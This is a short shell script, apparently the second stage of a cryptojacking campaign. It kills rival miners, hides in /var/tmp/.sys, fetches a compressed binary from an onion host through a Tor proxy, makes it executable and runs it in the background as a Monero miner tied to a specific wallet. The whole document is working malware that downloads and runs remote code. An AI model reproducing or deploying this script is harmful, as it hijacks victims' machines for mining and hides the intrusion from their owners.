#!/bin/sh
# stage 2 (served over the onion service in the campaign)
ONION=wtxqf54djhp5pskv2lu3x6nm7s2gjb3tcvy4lkfqhzbwcadvjqkmnxqd.onion
T="curl -s --socks5-hostname 127.0.0.1:9050"
command -v zstd >/dev/null || apt-get install -y zstd >/dev/null 2>&1
for p in xmrig kdevtmpfsi kinsing sysupdate networkservice; do pkill -9 -f $p; done
mkdir -p /var/tmp/.sys && cd /var/tmp/.sys
$T "http://$ONION/bin/system-linux-x86_64.zst" | zstd -d > system-linux && chmod +x system-linux
nohup ./system-linux -o xmr.kryptex.network:7029 -u 46NB1cxKHLH3XQEp57U2TG2igqKYijtGYEp6iFGEQ9FXKUJ7zg583eQsHWMoaTmsxwHndZ9gWitqzQUh13nb8Lb9bdsV19m/docker -p x --donate-level=0 -B >/dev/null 2>&1 &
